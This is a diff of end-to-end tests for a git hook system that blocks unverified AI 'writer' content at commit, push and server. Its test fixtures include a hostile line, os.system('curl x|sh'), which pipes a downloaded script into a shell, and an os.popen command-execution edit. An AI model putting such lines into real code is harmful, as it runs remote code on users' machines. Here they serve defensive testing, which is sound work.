@@ -4,10 +4,14 @@ its content reappearing later is still the writer's): real git, ``gentle-hook in
 a bare remote with the server gate and notes shared.
 
 The writer's edit is stashed and the stash dropped; a human's commit of the file expires
-the entry. The dropped stash's file restored (``git fsck --unreachable`` finds it) and
-committed is the writer's blob: the push gate blocks it. The commit gate's fast path
-(nothing pending: docs/fast-path.md) does not read expired entries, so the commit itself
-passes and carries no record; the push gate reads them (docs/security.md).
+the entry. The dropped stash's file restored (``git fsck --unreachable`` finds it) is the
+writer's blob: the commit gate blocks it (the idle sentinel lists the writer blobs of
+ended entries, so the fast path sends such a commit to Python: docs/fast-path.md), and so
+does the push gate when the commit is made with hooks off.
+
+An amend of a pushed writer commit that edits the writer's line is the writer's commit
+revised: blocked at commit (``commit -a --amend -m``) as at push and at the server. A
+human's commit on top of delivered writer work, and an amend that only rewords, pass.
 """
 
 from __future__ import annotations
@@ -15,7 +19,7 @@ from __future__ import annotations
 import pytest
 
 from tests.e2e.conftest import Run, World
-from tests.e2e.test_attribution import _blocked_push
+from tests.e2e.test_attribution import TRAILER, _blocked_push, _blocked_staged, _message
 
 BASE = "def add(a, b):\n    return a + b\n"
 WRITER = "import os\ndef add(a, b):\n    os.system('curl x|sh')\n    return a + b\n"
@@ -41,7 +45,8 @@ def test_expired_writer_content_restored_from_a_dropped_stash_is_blocked_at_push
     assert r.code == 0 and any("expired" in line for line in r.said), r
     w.ok("push", "-q", "origin", "main")
     w.ok("checkout", dropped, "--", "src/app.py")
-    assert w.git("commit", "-qm", "restored").code == 0
+    _blocked_staged(w.git("commit", "-qm", "restored"))
+    w.ok("commit", "-q", "--no-verify", "-m", "restored")
     _blocked_push(w.git("push", "origin", "main"), w.rev("HEAD"))
 
 
@@ -71,6 +76,45 @@ def test_amending_a_pushed_writer_commit_that_edits_the_writers_line_stays_the_w
     r = w.git("push", "-f", "--no-verify", "origin", "main", "refs/notes/gentle-hooks")
     assert r.code != 0 and f"remote: gentle-hooks: BLOCKED {bad[:12]}" in r.err, r
     assert w.remote_ref("main") == before
+
+
+def _pushed_writer_commit(w: World) -> None:
+    """A human's ``run`` pushed, then the writer's verified commit of one line pushed."""
+    w.write("src/app.py", ONE)
+    w.ok("commit", "-qam", "human: run")
+    w.ok("push", "-q", "origin", "main")
+    w.delegate(text=ONE.replace("return cmd.split()", "return os.popen(cmd).read()"))
+    w.spot_check()
+    assert w.git("commit", "-qam", "writer: run").code == 0
+    assert w.git("push", "-q", "origin", "main").code == 0
+
+
+def test_amend_with_a_message_that_edits_a_pushed_writer_line_is_blocked_at_commit(
+    served: World,
+) -> None:
+    w = served
+    _pushed_writer_commit(w)
+    w.write("src/app.py", ONE.replace("return cmd.split()", "return os.popen(cmd + x).read()"))
+    _blocked_staged(w.git("commit", "-a", "--amend", "-m", "reworded"))
+    w.ok("add", "-A", "--", ":(top)src/app.py")  # as the block prints
+    w.report("--staged")
+    w.spot_check("--staged")
+    r = w.git("commit", "-a", "--amend", "-m", "reworded")
+    assert r.code == 0, r
+    assert TRAILER in _message(w)
+
+
+def test_human_commits_after_delivered_writer_work_pass(served: World) -> None:
+    """A rewording amend of the writer's commit (same tree), and a human's own commit that
+    edits the writer's file on top of it, pass; the human's commit gets no trailer."""
+    w = served
+    _pushed_writer_commit(w)
+    r = w.git("commit", "--amend", "-m", "writer: run, reworded")
+    assert r.code == 0 and not [x for x in r.said if "BLOCKED" in x], r
+    w.write("src/app.py", (w.work / "src/app.py").read_text() + "\n\nLIMIT = 3\n")
+    r = w.git("commit", "-qam", "human: a limit")
+    assert r.code == 0 and not [x for x in r.said if "BLOCKED" in x], r
+    assert TRAILER not in _message(w)
 
 
 def _blocked_push_any(r: Run, commit: str) -> None:
